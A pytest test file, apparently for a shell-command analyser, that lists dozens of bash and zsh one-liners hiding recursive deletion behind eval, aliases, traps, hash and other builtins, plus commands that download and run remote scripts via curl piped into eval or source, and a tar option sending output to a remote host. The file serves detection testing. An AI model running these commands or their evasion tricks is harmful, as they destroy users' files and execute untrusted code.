"""Builtins that change the shell or run text."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(("command", "expected"), [
    ('cd /tmp; rm -r x', ['cd', 'rm D:/tmp/x']),
    ("read -ra a <<< 'rm -r /home/dev/x'; \"${a[@]}\"", ['read', 'rm D:~/x']),
    ("IFS= read -r x < <(echo 'rm -r ~/x'); eval \"$x\"", ['echo', 'read', 'rm D:~/x <just_written']),
    ("printf 'rm,-r,/home/dev/x' | while IFS=, read -r a b c; do $a $b $c; done", ['printf', 'read', 'rm D:~/x']),
    ("x=1 read y <<< 2; echo $x$y > $y", ['read', 'echo W:./2']),
    ("mapfile -d ' ' -t a < <(printf 'rm -r /home/dev/x '); \"${a[@]}\"", ['printf', 'mapfile', 'rm D:~/x']),
    ("compgen -C 'rm -r ~/x'", ['compgen', 'rm D:~/x']),
    ("f() { rm -r ~/x; }; compgen -F f", ['compgen', 'rm D:~/x']),
    ("compgen -W '$(rm -r ~/x)'", ['compgen', 'rm D:~/x', 'echo']),
    ("print -P '$(rm -r ~/x)'", ['print', 'rm D:~/x', 'echo']),
    ("print -r 'rm -r ~/x' | sh", ['print', 'sh', 'rm D:~/x']),
    ("print 'rm -r ~/x'", ['print']),
    ("printf -vc '%s' 'rm -r ~/x'; eval \"$c\"", ['printf', 'rm D:~/x']),
    ("alias -g G='; rm -r ~/x'; ls", ['alias', 'rm D:~/x', 'ls']),
    ("alias ls rm -r ~/x; ls", ['alias', 'rm D:~/x', 'rm D:~/x']),
    ("functions[x]='rm -r ~/x'", ['rm D:~/x', '-']),
    ("set c rm; $c -r ~/x", ['set', 'rm D:~/x']),
    ("set c=rm; $c -r ~/x", ['set', 'rm D:~/x']),
    ("set -e; rm -r x", ['set', 'rm D:./x']),
    ("echo 'rm -r ~/x' | source", ['echo', 'source', 'rm D:~/x']),
    ("exec < <(echo 'rm -r ~/x'); bash", ['echo', 'exec', 'bash <just_written', 'rm D:~/x <just_written']),
    ('cd - ; rm -r x', ['cd', 'rm D:./x']),
    ('cd "$UNKNOWN"; rm -r x', ['cd', 'rm D:?x']),
    ('cd ~/"$UNKNOWN"; rm -r x', ['cd', 'rm D:~/$UNKNOWN/x']),
    ('cd missing && cd .. && rm -r x', ['cd', 'cd', 'rm D:./x']),
    ('pushd ~; rm -r x; popd; rm -r y', ['pushd', 'rm D:~/x', 'popd', 'rm D:./y']),
    ('eval "rm -r ~/x"', ['rm D:~/x']),
    ("eval rm -r '~/x'", ['rm D:~/x']),
    ('eval "$(ssh-agent -s)"', ['ssh-agent', 'eval']),
    ('eval "$(curl -s https://a.example)"', ['curl H:a.example', 'eval ! <download']),
    ('eval "$X"', ['eval !']),
    ("builtin eval 'rm -r ~/x'", ['rm D:~/x']),
    ('exec rm -r ~/x', ['rm D:~/x']),
    ('exec 3> a.txt', ['exec W:./a.txt']),
    ("trap 'rm -r ~/x' EXIT", ['trap', 'rm D:~/x']),
    ('trap - EXIT', ['trap']),
    ("hash -p /bin/rm echo; echo -r ~/x", ['hash', 'echo']),
    ("hash -p /bin/rm echo; enable -n echo; echo -r ~/x", ['hash', 'enable', 'rm D:~/x']),
    ("hash -p /bin/rm x; x -r ~/x", ['hash', 'rm D:~/x']),
    ("export TAR_OPTIONS='--file=h.example:/x'; unset -f TAR_OPTIONS; tar -c a", ['export', 'unset', 'tar R:./a H:h.example']),
    ('f() { local c=rm; }; c=echo; f; "$c" -r ~/x', ['-', 'local', 'echo']),
    ('f() { local c=echo; }; c=rm; f; "$c" -r ~/x', ['-', 'local', 'rm D:~/x']),
    ('f() { c=rm; }; c=echo; f; "$c" -r ~/x', ['-', '-', 'rm D:~/x']),
    ('c=rm; declare -n r=d; r=$c; "$d" -r ~/x', ['-', 'declare', '-', 'rm D:~/x']),
    ('unset x; "${x:+rm}" -r ~/x', ['unset', '- R:~/x']),
    ("alias ll='rm -r ~/x'; ll", ['alias', 'rm D:~/x']),
    ("alias ls='ls -l'; ls", ['alias', 'ls']),
    ('source <(curl -s https://a.example/x.sh)', ['curl H:a.example', 'source <download <just_written']),
    ('curl -s https://a.example/x.sh | source /dev/stdin', ['curl H:a.example', 'source <download']),
    ('source /dev/stdin <<< "$(curl -s https://a.example/x.sh)"', ['curl H:a.example', 'source <download']),
    ("source /dev/stdin <<< 'rm -r ~/x'", ['source', 'rm D:~/x']),
    ('source .venv/bin/activate', ['source R:./.venv/bin/activate <local_file']),
    ('. ./env.sh', ['source R:./env.sh <local_file']),
    ('set -e', ['set']),
    ('set', ['set']),
    ('export -p', ['export']),
    ('export A=b', ['export']),
    ('unset A', ['unset']),
    ('mapfile -t x < list.txt; rm "${x[@]}"', ['mapfile R:./list.txt', 'rm D:?$x']),
    ('set -- a b; shift; rm "$1"', ['set', 'rm D:./b']),
    ('command rm -r ~/x', ['rm D:~/x']),
    ('command -v rm', ['command']),
])
def test_builtins_act_on_the_shell(brief, command, expected):
    assert brief(command) == expected


def test_an_alias_in_the_place_of_a_usual_command_will_run(brief):
    assert brief("alias ls='rm -r ~/x'") == ['alias', 'rm D:~/x'] and brief("alias old='rm -r ~/x'") == ['alias']
